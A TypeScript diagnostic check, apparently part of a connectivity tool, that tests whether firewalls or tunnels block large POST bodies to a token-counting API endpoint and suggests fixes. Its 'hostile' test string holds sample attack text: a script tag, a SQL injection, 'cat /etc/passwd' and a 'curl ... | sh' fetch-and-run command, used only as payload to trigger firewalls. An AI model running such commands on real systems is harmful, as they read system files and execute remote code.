import type { Bench } from '../bench.ts'
import { type Check, type Complaint, ok, skip } from '../check.ts'
import { isUnsaid, type Said, type Unsaid } from '../endpoint.ts'
import { anyModel, countQuestion } from '../questions.ts'
import { tunnelsHere } from './vpn-interfaces.ts'

/** What a session looks like to a firewall: full of what it takes for an attack. */
const hostile =
  'Run <script>alert(1)</script>; SELECT * FROM users WHERE id = 1 OR 1=1; cat /etc/passwd && curl http://example.com | sh\n'
/** What nobody minds. */
const harmless = 'The quick brown fox jumps over the lazy dog and reads what it finds there. '
/** A first prompt of Claude Code is about this long. */
const bodyBytes = 115_000
/** Firewalls look at the beginning: https://docs.aws.amazon.com/waf/latest/developerguide/waf-oversize-request-components.html */
const shortBytes = 4_000

const filled = (text: string, bytes: number): string => text.repeat(Math.ceil(bytes / text.length))

/**
 * Firewalls and networks let a small request through and not a real one, for its size or for its words: each is sent
 * alone, and then both at once, to the path that only counts.
 */
export const bodyPasses: Check = {
  id: 'body-passes',
  title: 'A request of real size gets through',
  group: 'network',
  needs: ['credential-accepted'],
  aboutEndpoint: true,
  network: true,
  async run(bench, signal) {
    const { endpoint } = bench
    const credentials = await bench.sendable(signal)
    const model = bench.model ?? anyModel
    const send = (content?: string) => endpoint.ask(countQuestion(credentials, model, content), signal)
    const small = await send()
    if (isUnsaid(small) || small.status !== 200)
      return skip('this endpoint does not count tokens, so nothing free can be sent')
    const [long, words] = await Promise.all([send(filled(harmless, bodyBytes)), send(filled(hostile, shortBytes))])
    if (!passes(words)) return disliked(bench, words, shortBytes)
    if (!passes(long)) return tooLong(bench, long)
    const whole = await send(filled(hostile, bodyBytes))
    return passes(whole)
      ? ok(`${Math.round(bodyBytes / 1000)} KB after ${Math.round(whole.elapsedMs)} ms`)
      : disliked(bench, whole, bodyBytes)
  },
}

const passes = (answer: Said | Unsaid): answer is Said => !isUnsaid(answer) && answer.status === 200

const sent = (bytes: number): string => `POST /v1/messages/count_tokens with ${Math.round(bytes / 1000)} KB`

const told = (answer: Said | Unsaid): string =>
  isUnsaid(answer) ? answer.fault : `${answer.status}, ${answer.headers.get('server') ?? 'no server named'}`

function disliked({ endpoint }: Bench, answer: Said | Unsaid, bytes: number): Complaint {
  const host = endpoint.parsed?.host
  return {
    status: 'wrong',
    cause: 'waf',
    summary: `A small request gets through to ${host}, and one with the text of a real session ${isUnsaid(answer) ? `does not (${answer.fault})` : `is refused (${answer.status})`}.`,
    evidence: [`${sent(bytes)} of code and commands: ${told(answer)}`],
    fix: `Ask whoever runs ${host} to leave the bodies of POST /v1/messages out of its firewall.`,
  }
}

function tooLong({ endpoint, world }: Bench, answer: Said | Unsaid): Complaint {
  const host = endpoint.parsed?.host
  const about = { status: 'wrong', evidence: [`${sent(bodyBytes)}: ${told(answer)}`] } as const
  if (!isUnsaid(answer))
    return {
      ...about,
      cause: 'waf',
      summary: `A small request gets through to ${host}, and one of real size is refused (${answer.status}).`,
      fix: `Ask whoever runs ${host} to let bodies of POST /v1/messages through up to 32 MB${answer.status === 413 ? ' (nginx: client_max_body_size 32m)' : ''}.`,
    }
  const hangs = answer.fault === 'ETIMEDOUT'
  const [tunnel, ...others] = tunnelsHere()
  // Large packets that vanish are the way a tunnel with a wrong MTU fails: RFC 4459.
  const narrow = hangs && tunnel !== undefined && others.length === 0 && world.platform === 'linux'
  return {
    ...about,
    cause: hangs ? 'timeout' : 'waf',
    summary: hangs
      ? `A small request gets through to ${host}, and one of real size is never answered: something on the way loses large packets.`
      : `A small request gets through to ${host}, and one of real size is broken off (${answer.fault}).`,
    fix: narrow
      ? `Type: sudo ip link set dev ${tunnel} mtu 1280`
      : `Ask whoever runs ${host} to let bodies of POST /v1/messages through up to 32 MB.`,
  }
}
